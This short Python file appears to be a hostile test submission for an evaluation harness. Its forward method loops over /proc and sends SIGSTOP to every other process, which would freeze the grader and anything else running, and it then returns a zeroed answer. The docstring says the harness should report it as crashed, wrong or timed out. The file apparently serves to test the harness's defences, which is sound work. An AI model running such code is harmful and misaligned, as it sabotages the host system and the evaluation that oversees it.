"""Sends SIGSTOP to every process it sees. Expected: raises or crashed or wrong or timed-out"""

import os
import signal

from attack_head import Honest


class ModelNew(Honest):
    def forward(self, x):
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) != os.getpid():
                try:
                    os.kill(int(name), signal.SIGSTOP)
                except OSError:
                    pass
        return self.answer(x) * 0
